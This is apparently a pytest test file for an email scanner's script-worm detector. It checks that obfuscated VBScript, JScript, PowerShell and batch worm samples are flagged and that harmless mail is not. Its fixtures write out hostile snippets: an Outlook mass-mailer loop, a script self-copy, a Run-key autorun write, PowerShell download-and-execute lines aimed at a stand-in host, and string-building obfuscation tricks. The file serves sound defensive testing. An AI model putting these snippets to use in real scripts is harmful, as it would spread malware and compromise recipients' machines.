"""Script worms by what they do (issue 20): code recognised in any part, normalised, judged.

A generated corpus of padded script worms (tests/unit/script_worms.py) sent as ``.txt``
text/plain, without a name, as the body, inside a zip or under an unrelated type must come out
non-clean (≥ 97 % overall and in each family and delivery); the harmless scripts and text people
mail each other never. The figures are printed (``-s``)::

    PYTHONPATH=src:tests/unit python -m pytest -q -s tests/unit/test_skeptic_script_worms.py
"""

from __future__ import annotations

import base64
import random
import time
from collections import Counter

import pytest
from script_worms import CLEAN_TEXTS, DELIVERIES, FAMILIES, clean_cases, generate, worm
from skeptic_fixtures import NoEngine

from mailtower.scanning.objects import Analysis, ScanObject
from mailtower.scanning.pipeline import Pipeline
from mailtower.scanning.scan import Kind
from mailtower.scanning.skeptic import Skeptic, _code
from mailtower.scanning.skeptic._script import Script

WORMS = 1000
GOAL = 0.97
# Families with a reference in the rule data (40-worms.toml); the others are caught by behaviour.
KNOWN = {
    "loveletter-like": "loveletter-like-vbs",
    "anna-like": "annakournikova-like-vbs",
    "js-mailer": "outlook-mailer-js",
    "ps-downloader": "webclient-downloader-ps",
}


@pytest.fixture(scope="module")
def skeptic() -> Skeptic:
    return Skeptic.from_rules()


@pytest.fixture(scope="module")
def pipeline(skeptic: Skeptic) -> Pipeline:
    return Pipeline([NoEngine()], skeptic=skeptic)


def _canon(text: str, language: str) -> str:
    return _code.canonical(Script(language, text, "file")).text


def _examine(skeptic: Skeptic, data: bytes, name: str = "notes.txt") -> set[str]:
    obj = ScanObject(data, "1.2", frozenset({name}), frozenset({"text/plain"}))
    return {f.name for f in skeptic.examine(Analysis(objects=[obj]))}


# --- recognition ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("language", "family"),
    [("vb", "loveletter-like"), ("js", "js-mailer"), ("ps", "ps-downloader")],
)
def test_undeclared_code_is_recognised_by_its_tokens(language: str, family: str) -> None:
    copy = worm(random.Random(5), family)
    assert "script-encoder" not in copy.tricks and "hta" not in copy.tricks
    assert _code.sniff(copy.text) == language


def test_batch_and_pages_are_recognised() -> None:
    assert _code.sniff(CLEAN_TEXTS["batch"]) == "bat"
    dropper = "@echo off\nset X=%TEMP%\\a\nif exist %X% goto run\n:run\ncmd /c start %X%\n"
    assert _code.sniff(dropper) == "bat"
    assert _code.sniff("Dear all,\n<script>eval(x)</script>\n") == "page"


@pytest.mark.parametrize("name", ["prose", "python", "json", "csv", "js-snippet"])
def test_text_that_is_not_windows_script_is_not_code(name: str) -> None:
    assert _code.sniff(CLEAN_TEXTS[name]) is None


def test_script_encoder_blobs_are_decoded() -> None:
    plain = 'var x = new ActiveXObject("WScript.Shell");\r\nx.Popup("<hi> @ home");\n'
    blob = _code.wsh_encode(plain)
    assert blob.startswith("#@~^") and blob.endswith("==^#~@")
    assert "ActiveXObject" not in blob
    (inner,) = _code.layers(Script("js", f"// header\n{blob}\n", "file"))
    assert inner.text == plain and inner.language == "js"
    (vb,) = _code.layers(Script("js", _code.wsh_encode('Dim a\nSet a = CreateObject("x")\n'), "f"))
    assert vb.language == "vb"


def test_powershell_encoded_command_is_decoded() -> None:
    command = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/x')"
    encoded = base64.b64encode(command.encode("utf-16-le")).decode()
    for flag in ("-EncodedCommand", "-enc", "-e", "-eNcOdEdC"):
        (inner,) = _code.layers(Script("bat", f"powershell -nop {flag} {encoded}", "file"))
        assert inner.language == "ps" and inner.text == command


# --- normalisation ----------------------------------------------------------------------------


def test_string_building_is_folded() -> None:
    vb = (
        'Set o = CreateObject(Chr(79) & "ut" & ChrW(108) & Chr(100 + 11) & "ok." & '
        'StrReverse("noitacilppA"))\nSet n = o.GetNameSpace(Replace("MAQZPI", "QZ", ""))\n'
        "n.Logon\n"
    )
    assert '"outlook.application"' in _canon(vb, "vb") and '"mapi"' in _canon(vb, "vb")
    js = (
        "var a = new ActiveXObject(String.fromCharCode(87, 83, 99, 114, 105, 112, 116) + "
        '".Shell");\nvar b = "noitacilppA.kooltuO".split("").reverse().join("");\n'
        'var c = new ActiveXObject(b);\nvar d = "WxxScript".replace("xx", "");\nc.Run(d);\n'
    )
    text = _canon(js, "js")
    assert '"wscript.shell"' in text and '"outlook.application"' in text
    assert 'run ( "wscript" )' in text
    ps = "$w = New-Object ('Net.' + 'WebClient')\n$w.DownloadString([char]104 + 'ttp://x')\n"
    assert '"net.webclient"' in _canon(ps, "ps") and '"http://x"' in _canon(ps, "ps")


def test_junk_statements_and_names_do_not_change_the_canonical_form() -> None:
    plain = 'Set a = CreateObject("Outlook.Application")\nSet b = a.GetNameSpace("MAPI")\n'
    padded = (
        "' a comment\nDim qX7, a, b, zz\nqX7 = 123 + 4\n"
        'Set a = CreateObject("Outlook.Application")\nzz = qX7 * 2 + Len("abc")\n'
        'Rem more\nDim kk : kk = "noise"\nSet b = a.GetNameSpace("MAPI")\n'
    )
    renamed = plain.replace("Set a ", "Set Q9zz ").replace("= a.", "= Q9zz.").replace("b =", "kX =")
    expected = _canon(plain, "vb")
    assert (
        expected
        == 'set v1 = createobject ( "outlook.application" )\nset v2 = v1.getnamespace ( "mapi" )\n'
    )
    assert _canon(padded, "vb").replace("dim v1 , v2\n", "") == expected
    assert _canon(renamed, "vb") == expected


def test_a_junk_statement_that_calls_something_is_kept() -> None:
    text = _canon('x = CreateObject("WScript.Shell").Run("calc")\n', "vb")
    assert "createobject" in text


# --- behaviour --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rule", "language", "text"),
    [
        (
            "skeptic.worm.mass-mailer",
            "vb",
            'Set o = CreateObject("Outlook.Application")\nFor Each l In o.GetNameSpace("MAPI")'
            ".AddressLists\nSet m = o.CreateItem(0)\nm.Recipients.Add l.AddressEntries(1)\n"
            "m.Send\nNext\n",
        ),
        (
            "skeptic.worm.self-copy",
            "vb",
            'Set f = CreateObject("Scripting.FileSystemObject")\ns = WScript.ScriptFullName\n'
            'f.CopyFile s, "C:\\placeholder\\x.vbs"\n',
        ),
        (
            "skeptic.worm.autorun",
            "js",
            'var s = new ActiveXObject("WScript.Shell");\ns.RegWrite("HKCU\\\\Software\\\\'
            'Microsoft\\\\Windows\\\\CurrentVersion\\\\R" + "un\\\\x", "wscript x.js");\n',
        ),
        (
            "skeptic.worm.download-execute",
            "ps",
            "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/x')\n",
        ),
        (
            "skeptic.worm.download-execute",
            "ps",
            "Invoke-WebRequest -Uri http://example.invalid/x -OutFile $f\nStart-Process $f\n",
        ),
    ],
)
def test_each_behaviour_is_seen_in_an_undeclared_text(
    skeptic: Skeptic, rule: str, language: str, text: str
) -> None:
    # Enough ordinary code around it for the recogniser's statistics.
    filler = {
        "vb": "Dim a, b\nIf a Then\nEnd If\n",
        "js": "var a = 1;\nfunction f() {\n}\n",
        "ps": "$a = 1\n$b = Get-Date\n",
    }[language]
    found = _examine(skeptic, (filler + text).encode())
    assert rule in found


@pytest.mark.parametrize("name", sorted(CLEAN_TEXTS))
def test_harmless_scripts_show_no_worm_behaviour(skeptic: Skeptic, name: str) -> None:
    found = _examine(skeptic, CLEAN_TEXTS[name].encode())
    assert not {f for f in found if f.startswith(("skeptic.worm", "skeptic.known-worm"))}


# --- the goals --------------------------------------------------------------------------------


def _table(hit: Counter[str], total: Counter[str], keys: list[str]) -> str:
    return "\n".join(f"  {k:18} {hit[k]:5}/{total[k]:<5} {hit[k] / total[k]:7.1%}" for k in keys)


def test_padded_worms_are_not_clean(pipeline: Pipeline) -> None:
    cases = generate(WORMS)
    caught: Counter[str] = Counter()
    total: Counter[str] = Counter()
    known: Counter[str] = Counter()
    kinds: Counter[str] = Counter()
    started = time.monotonic()
    for case in cases:
        verdict = pipeline.scan(case.raw)
        kinds[verdict.kind.value] += 1
        names = {f.name for f in verdict.findings}
        for key in (case.family, case.delivery, "all"):
            total[key] += 1
            caught[key] += verdict.kind is not Kind.CLEAN
        if case.family in KNOWN and f"skeptic.known-worm.{KNOWN[case.family]}" in names:
            known[case.family] += 1
    elapsed = time.monotonic() - started
    families = sorted(FAMILIES)
    print(f"\npadded script worms: {WORMS} messages, {elapsed / WORMS * 1000:.1f} ms each")
    print(f"verdicts: {dict(sorted(kinds.items()))}")
    print("non-clean by family:\n" + _table(caught, total, families))
    print("non-clean by delivery:\n" + _table(caught, total, list(DELIVERIES)))
    print("likeness to the family's reference (skeptic.known-worm):")
    print(_table(known, total, sorted(KNOWN)))
    print(f"non-clean overall: {caught['all']}/{total['all']} = {caught['all'] / WORMS:.1%}")
    assert caught["all"] / total["all"] >= GOAL
    for key in [*families, *DELIVERIES]:
        assert caught[key] / total[key] >= GOAL, key
    for family in KNOWN:
        assert known[family] / total[family] >= 0.9, family


def test_harmless_mail_stays_clean(pipeline: Pipeline) -> None:
    cases = clean_cases()
    flagged = []
    for name, how, raw in cases:
        verdict = pipeline.scan(raw)
        if verdict.kind is not Kind.CLEAN:
            flagged.append((name, how, verdict.kind.value, [f.name for f in verdict.findings]))
    print(f"\nharmless texts and scripts: {len(cases)} messages, {len(flagged)} not clean")
    assert flagged == []
